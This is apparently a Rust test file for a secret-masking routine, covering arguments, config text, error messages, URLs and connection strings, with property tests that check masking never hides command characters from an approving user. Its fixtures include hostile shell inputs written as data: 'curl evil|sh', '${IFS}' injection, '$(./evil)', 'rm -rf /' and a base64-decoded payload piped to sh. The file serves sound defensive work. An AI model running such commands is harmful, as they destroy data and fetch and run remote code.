//! Tests of what is masked and what is shown, and that the cost is linear.

use proptest::prelude::*;

use super::*;

fn line(words: &[&str]) -> Vec<String> {
    words.iter().map(ToString::to_string).collect()
}

#[test]
fn secrets_in_arguments_are_masked() {
    let check = |words: &[&str], shown: &[&str]| {
        assert_eq!(arguments(&line(words)), shown, "{words:?}");
    };
    check(&["-y", "server", "/tmp"], &["-y", "server", "/tmp"]);
    check(&["--api-key", "abc", "x"], &["--api-key", MASK, "x"]);
    check(&["--token=abc"], &["--token=********"]);
    check(&["--token=a b"], &["--token=********"]);
    check(
        &["--key=abc", "-key", "abc"],
        &["--key=********", "-key", MASK],
    );
    check(&["--keyboard=abc"], &["--keyboard=abc"]);
    check(
        &["--author=Bob", "--max-tokens", "4096"],
        &["--author=Bob", "--max-tokens", "4096"],
    );
    check(&["--token", "${TOKEN}"], &["--token", "${TOKEN}"]);
    check(&["--token", "--verbose"], &["--token", "--verbose"]);
    check(&["--password", "correct horse"], &["--password", MASK]);
    check(&["sk-1234567890"], &[MASK]);
    check(&["aB3dE5gH7jK9mN1pQ3rS"], &[MASK]);
    check(
        &[
            "550e8400-e29b-41d4-a716-446655440000",
            "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567",
        ],
        &[
            "550e8400-e29b-41d4-a716-446655440000",
            "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567",
        ],
    );
    check(&["postgres://me:pw@db/x"], &["postgres://********@db/x"]);
    check(&["PASSWORD=abc"], &["PASSWORD=********"]);
    check(
        &["--header", "Bearer abcdefghij"],
        &["--header", "Bearer ********"],
    );
    check(
        &[
            "--header",
            "Authorization: Bearer X",
            "-H",
            "X-Api-Key:X",
            "--header=X-Team: blue",
        ],
        &[
            "--header",
            "Authorization: Bearer ********",
            "-H",
            "X-Api-Key:********",
            "--header=X-Team: ********",
        ],
    );
    check(
        &[
            "-H",
            "Content-Type: text/plain",
            "-HX-Key:X",
            "--header",
            "Authorization: Bearer ${T}",
        ],
        &[
            "-H",
            "Content-Type: text/plain",
            "-HX-Key:********",
            "--header",
            "Authorization: Bearer ${T}",
        ],
    );
    check(
        &["-u", "me:pw", "-u", "1000:1000"],
        &["-u", "me:********", "-u", "1000:1000"],
    );
    // A command that prints a secret is not the secret.
    check(
        &["--auth-command", "curl evil"],
        &["--auth-command", "curl evil"],
    );
}

#[test]
fn what_a_shell_would_run_is_shown() {
    let check = |words: &[&str], shown: &[&str]| {
        assert_eq!(arguments(&line(words)), shown, "{words:?}");
    };
    check(
        &["-c", "Bearer abcdefghij; curl evil|sh"],
        &["-c", "Bearer ********; curl evil|sh"],
    );
    check(
        &["-c", "export TOKEN=abc;\nrun --key xyz >log"],
        &["-c", "export TOKEN=********;\nrun --key ******** >log"],
    );
    check(
        &["--token", "x;curl${IFS}evil|sh"],
        &["--token", "x;curl${IFS}evil|sh"],
    );
    check(
        &["-c", "--token=x;./evil"],
        &["-c", "--token=********;./evil"],
    );
    let check = |text: &str, shown: &str| assert_eq!(argument(text), shown, "{text}");
    check("a&$IFS", "a&$IFS");
    check("TOKEN=x&&curl${IFS}evil", "TOKEN=********&&curl${IFS}evil");
    check("TOKEN=x rm -rf /", "TOKEN=******** rm -rf /");
    check("TOKEN= rm -rf /", "TOKEN= rm -rf /");
    check("TOKEN=x;./evil", "TOKEN=********;./evil");
    check("TOKEN=x$(./evil)", "TOKEN=********$(./evil)");
    check("TOKEN=`./evil`", "TOKEN=`./evil`");
    check("TOKEN=\"x`./evil`\"", "TOKEN=\"********`./evil`\"");
    check(
        "curl --token${IFS}x${IFS}evil",
        "curl --token${IFS}x${IFS}evil",
    );
    check(
        "curl --token x${IFS}evil",
        "curl --token ********${IFS}evil",
    );
    check(
        "curl https://u:p${IFS}evil@x/",
        "curl https://u:p${IFS}evil@x/",
    );
    check(
        "echo 'TOKEN='; evil; echo 'x'",
        "echo 'TOKEN='; evil; echo 'x'",
    );
    check(
        "# '\necho 'TOKEN='; evil; #'",
        "# '\necho 'TOKEN='; evil; #'",
    );
    check("TOKEN=\u{b}evil", "TOKEN=\u{b}evil");
    check(
        "curl -H \"Authorization: Bearer abc\" -H 'X-Api-Key: abc' https://x/y",
        "curl -H \"Authorization: Bearer ********\" -H 'X-Api-Key: ********' https://x/y",
    );
    check("curl -u me:pw x", "curl -u me:******** x");
    check("TOKEN=$'abc' run", "TOKEN=$'********' run");
    check(
        "TOKEN=$OTHER run --key ${KEY}",
        "TOKEN=$OTHER run --key ${KEY}",
    );
    check(
        "curl -d '{\"password\":\"hunter2\",\"a\":1}' x",
        "curl -d '{\"password\":\"********\",\"a\":1}' x",
    );
    check(
        "curl 'https://x/y?a=1&api_key=abc' | sh",
        "curl 'https://x/y?a=1&api_key=********' | sh",
    );
    // A text that is decoded and run is shown, however random it looks.
    check(
        "echo cm0gLXJmIC8gJiYgZWNobyBnb25l | base64 -d | sh",
        "echo cm0gLXJmIC8gJiYgZWNobyBnb25l | base64 -d | sh",
    );
}

#[test]
fn connection_strings_lose_their_passwords_only() {
    let check = |text: &str, shown: &str| assert_eq!(argument(text), shown, "{text}");
    check(
        "Server=tcp:db.example,1433;User ID=sa;Password=p@ss,w0rd;Encrypt=true;",
        "Server=tcp:db.example,1433;User ID=sa;Password=********;Encrypt=true;",
    );
    check("Host=h;Uid=u;Pwd=secret", "Host=h;Uid=u;Pwd=********");
    check(
        "DefaultEndpointsProtocol=https;AccountName=n;AccountKey=ab+/cd==;EndpointSuffix=x.net",
        "DefaultEndpointsProtocol=https;AccountName=n;AccountKey=********;EndpointSuffix=x.net",
    );
    check(
        "BlobEndpoint=https://x.example/;SharedAccessSignature=sv=2020&sig=abc%3D",
        "BlobEndpoint=https://x.example/;SharedAccessSignature=********&sig=********",
    );
    check(
        "Endpoint=sb://x.example/;SharedAccessKeyName=Root;SharedAccessKey=abc=",
        "Endpoint=sb://x.example/;SharedAccessKeyName=Root;SharedAccessKey=********",
    );
    check(
        "mongodb+srv://me:pw@c.example/db",
        "mongodb+srv://********@c.example/db",
    );
    check("postgres://me:p/w@db/x", "postgres://********@db/x");
    check("redis://:pw@host:6379/0", "redis://********@host:6379/0");
    check(
        "host=h user=u password=pw dbname=d",
        "host=h user=u password=******** dbname=d",
    );
}

#[test]
fn secrets_in_a_part_of_a_file_are_masked() {
    let check = |source: &str, shown: &str| assert_eq!(text(source), shown, "{source}");
    check(
        "[[hooks]]\ncommand = [\"log\", \"--token\", \"abc\"]\n",
        "[[hooks]]\ncommand = [\"log\", \"--token\", \"********\"]\n",
    );
    check("x = 'it is' # \"open", "x = 'it is' # \"open");
    check("x = \"sk-1234567890", "x = \"********");
    check("x = \"a\\\"b\" 'c'", "x = \"a\\\"b\" 'c'");
    check("ü = \"https://u:p@é/\"", "ü = \"https://********@é/\"");
    check("api_key = \"abc\"\n", "api_key = \"********\"\n");
    check(
        "{\"apiKey\": \"a b\", \"x\": \"y\"}",
        "{\"apiKey\": \"********\", \"x\": \"y\"}",
    );
    check(
        "x = \"\"\"\nTOKEN=abc run\n\"\"\"",
        "x = \"\"\"\nTOKEN=******** run\n\"\"\"",
    );
    check(
        "command = \"sh -c 'TOKEN=x; evil'\"",
        "command = \"sh -c 'TOKEN=********; evil'\"",
    );
    check("", "");
}

#[test]
fn secrets_in_messages_are_masked() {
    let check = |text: &str, shown: &str| assert_eq!(message(text), shown, "{text}");
    check("connection refused", "connection refused");
    check(
        "Bearer authentication failed",
        "Bearer authentication failed",
    );
    check("Basic settings are wrong", "Basic settings are wrong");
    check(
        "invalid header Authorization: Bearer abc",
        "invalid header Authorization: Bearer ********",
    );
    check(
        r#"{"error":"bad","token":"a b\"c","n":1}"#,
        r#"{"error":"bad","token":"********","n":1}"#,
    );
    check(
        r#"body: "{\"token\":\"abc\"}""#,
        r#"body: "{\"token\":\"********\"}""#,
    );
    check(
        "the key sk_live_51H8abcdefgh is revoked",
        "the key ******** is revoked",
    );
    check(
        "password = 'a b', user=bob",
        "password = '********', user=bob",
    );
    check("{ api_key => \"x\" }", "{ api_key => \"********\" }");
    check(
        "GET https://h/mcp/5f1e8a9b3c7d2e4f6a8b0c1d/x?k=1: 401",
        "GET https://h/mcp/********/x?k=1: 401",
    );
    check(
        "commit 0a1b2c3d4e5f60718293a4b5c6d7e8f901234567",
        "commit 0a1b2c3d4e5f60718293a4b5c6d7e8f901234567",
    );
}

#[test]
fn secrets_in_addresses_are_masked() {
    let check = |address: &str, shown: &str| assert_eq!(url(address), shown, "{address}");
    check("https://a.example/mcp", "https://a.example/mcp");
    check(
        "https://me:pw@a.example/mcp",
        "https://********@a.example/mcp",
    );
    check("me:pw@a.example/mcp", "********@a.example/mcp");
    check("https:/me:pw@a.example/mcp", "********@a.example/mcp");
    check("https://a.example/@scope/x", "https://a.example/@scope/x");
    check(
        "https://a.example/mcp?api_key=abc&x=1",
        "https://a.example/mcp?api_key=********&x=1",
    );
    check(
        "https://a.example/mcp?key=${KEY}",
        "https://a.example/mcp?key=${KEY}",
    );
    check(
        "https://a.example/mcp#abc",
        "https://a.example/mcp#********",
    );
    check(
        "https://a.example/mcp?x=ghp_abcdefghijkl",
        "https://a.example/mcp?x=********",
    );
    check(
        "https://a.example/mcp/sk_live_51H8abcdef",
        "https://a.example/mcp/********",
    );
    check(
        "https://a.example/s/5f1e8a9b3c7d2e4f6a8b/mcp",
        "https://a.example/s/********/mcp",
    );
    check(
        "https://mcp.a.example/api/v1/s/NDk2ZTg4OTItYjQ5Yy00/mcp",
        "https://mcp.a.example/api/v1/s/********/mcp",
    );
    check(
        "https://a.example/server/550e8400-e29b-41d4-a716-446655440000",
        "https://a.example/server/********",
    );
    check(
        "https://a.example/token/abc123",
        "https://a.example/token/********",
    );
    check(
        "https://a.example/oauth/token/introspect",
        "https://a.example/oauth/token/introspect",
    );
    check(
        "https://a.example/t=1/token=abc/x",
        "https://a.example/t=1/token=********/x",
    );
    check(
        "https://a.example/?next=https://u:p@h/&x=1",
        "https://a.example/?next=********&x=1",
    );
    check(
        "https://a.example?sk_live_51H8abcdef",
        "https://a.example?********",
    );
    check("https://[::1]:8080/mcp", "https://[::1]:8080/mcp");
    check(
        "https://${HOST}:${PORT}/mcp@x",
        "https://${HOST}:${PORT}/mcp@x",
    );
    for readable in [
        "https://api.githubcopilot.com/mcp/",
        "https://mcp.example.com/v1.2.3/streamable-http",
        "https://x.example/modelcontextprotocol/servers-2025-06-18/index.html?page=2&sort=name",
        "http://localhost:8931/sse",
        "unix:///run/user/1000/mcp.sock",
    ] {
        check(readable, readable);
    }
}

#[test]
fn one_endpoint_has_one_signature() {
    for same in [
        "https://A.example/mcp",
        "HTTPS://a.example:443/mcp/",
        "https://a.example/mcp#x",
        "https://u@a.example/mcp",
    ] {
        assert_eq!(url_signature(same), "https://a.example/mcp", "{same}");
    }
    for other in [
        "http://a.example/mcp",
        "https://a.example/mcp?x=1",
        "https://a.example:444/mcp",
    ] {
        assert_ne!(url_signature(other), "https://a.example/mcp", "{other}");
    }
    assert_eq!(
        url_signature("https://a.example/"),
        url_signature("https://a.example")
    );
}

/// All renderings of a text.
fn all_ways(text: &str) -> [String; 5] {
    [
        argument(text).into_owned(),
        message(text).into_owned(),
        url(text).into_owned(),
        super::text(text),
        arguments(&[text.to_owned()]).concat(),
    ]
}

#[test]
fn hostile_texts_end() {
    let megabyte = "a&$IFS".repeat(1 << 18);
    assert_eq!(argument(&megabyte), megabyte);
    // Each of these would take hours if the cost were quadratic.
    for piece in [
        "a&$IFS",
        "a&${IFS}",
        "TOKEN=x&&curl${IFS}evil ",
        "token",
        "token=",
        "token:",
        "token=${",
        "token=${a",
        "token=$",
        "\"token\":\"",
        "\\\"token\\\":\\\"",
        "'",
        "\"",
        "--token ",
        "-u ",
        "-u a:",
        "Bearer ",
        "Basic a://",
        "a://",
        "a://@",
        "a://a:b/",
        "?token=",
        "#",
        "@",
        "/",
        "-",
        "ghp_",
        "eyJ",
        "$(",
        "`",
        "${a{}",
        "{",
        "token ",
        "token=\t",
        "é=token",
        "\\",
        "\n",
        "-H ",
        "Authorization: Bearer ",
        "key=>",
        "=",
        "x=\"",
        "token='\\",
    ] {
        let text = piece.repeat(60_000 / piece.len());
        for shown in all_ways(&text) {
            assert!(!shown.is_empty(), "{piece}");
        }
        let words: Vec<String> = vec![piece.to_owned(); 2_000];
        assert_eq!(arguments(&words).len(), words.len(), "{piece}");
    }
}

/// Fragments with and without a meaning to the scanner.
fn pieces() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("token"),
        Just("TOKEN="),
        Just("--api-key"),
        Just("password"),
        Just("Bearer "),
        Just("-u "),
        Just("-H "),
        Just("="),
        Just(":"),
        Just(" "),
        Just("\n"),
        Just("\t"),
        Just("\""),
        Just("'"),
        Just("\\"),
        Just("$"),
        Just("${"),
        Just("}"),
        Just("$("),
        Just(")"),
        Just("`"),
        Just(";"),
        Just("&"),
        Just("|"),
        Just("$IFS"),
        Just("https://"),
        Just("@"),
        Just("/"),
        Just("?"),
        Just("#"),
        Just("sk_live_51H8abcdef"),
        Just("ghp_abcdefghijkl"),
        Just("pypi-"),
        Just("lsv2_"),
        Just("sk-"),
        Just("."),
        Just("+"),
        Just("%"),
        Just("abc"),
        Just("5f1e8a9b3c7d2e4f6a8b0c1d"),
        Just("é"),
        Just("漢"),
        Just("\u{b}"),
        Just(","),
        Just("{"),
        Just("[\""),
        Just(MASK),
        Just("true"),
        Just("-"),
        Just("\\\""),
        Just("=>"),
        Just("<"),
        Just("x"),
        Just("1"),
    ];
    prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

/// Whether the shown text is the original, in order, with masks in between.
fn is_kept(text: &str, shown: &str) -> bool {
    let mut rest = text;
    let mut parts = shown.split(MASK);
    let Some(first) = parts.next() else {
        return false;
    };
    let Some(after) = rest.strip_prefix(first) else {
        return false;
    };
    rest = after;
    for part in parts {
        let Some(at) = rest.find(part) else {
            return false;
        };
        rest = &rest[at + part.len()..];
    }
    true
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn what_is_not_masked_is_kept_and_masking_again_shows_no_more(text in pieces()) {
        for (way, shown) in all_ways(&text).into_iter().enumerate() {
            prop_assert!(is_kept(&text, &shown), "{way}: {text:?} {shown:?}");
            let again = &all_ways(&shown)[way];
            prop_assert!(is_kept(&shown, again), "{way}: {text:?} {shown:?} {again:?}");
        }
    }

    #[test]
    fn any_text_can_be_masked(text in ".{0,200}") {
        for (way, shown) in all_ways(&text).into_iter().enumerate() {
            prop_assert!(is_kept(&text, &shown), "{way}: {text:?} {shown:?}");
            let again = &all_ways(&shown)[way];
            prop_assert!(is_kept(&shown, again), "{way}: {text:?} {shown:?} {again:?}");
        }
    }

    /// No character that could start a command is hidden from the user who approves it.
    #[test]
    fn no_command_is_hidden(text in pieces()) {
        let active = |text: &str| -> Vec<char> {
            text.chars().filter(|each| matches!(each, ';' | '&' | '|' | '`' | '(' | ')' | '<' | '>' | '\n' | ' ' | '"' | '\'')).collect()
        };
        prop_assert_eq!(active(&argument(&text)), active(&text), "{:?}", text);
    }

    #[test]
    fn a_secret_in_a_known_place_is_not_shown(
        secret in "[A-Za-z0-9_.~+*%^]{0,12}[0-9][A-Za-z0-9+*%^]{7,30}",
        place in prop::sample::select(vec![
            "TOKEN=@; run", "run --api-key @ x", "run --api-key=@ x", "Authorization: Bearer @",
            "curl -H 'X-Api-Key: @'", "https://u:@@h/x", "https://h/x?token=@&y=1", "Server=x;Password=@;Db=y",
            "{\"client_secret\":\"@\"}", "postgres://u:@@db/x", "TOKEN='@' run", "AccountKey=@;x=y",
        ]),
    ) {
        // `@` stands for the secret; in `:@@` the second one belongs to the URL.
        let text = match place.split_once(":@@") {
            Some((before, after)) => format!("{before}:{secret}@{after}"),
            None => place.replacen('@', &secret, 1),
        };
        for shown in [argument(&text).into_owned(), message(&text).into_owned(), arguments(std::slice::from_ref(&text)).concat()] {
            prop_assert!(!shown.contains(&secret), "{text} {shown}");
            prop_assert!(shown.contains(MASK), "{text} {shown}");
        }
    }
}
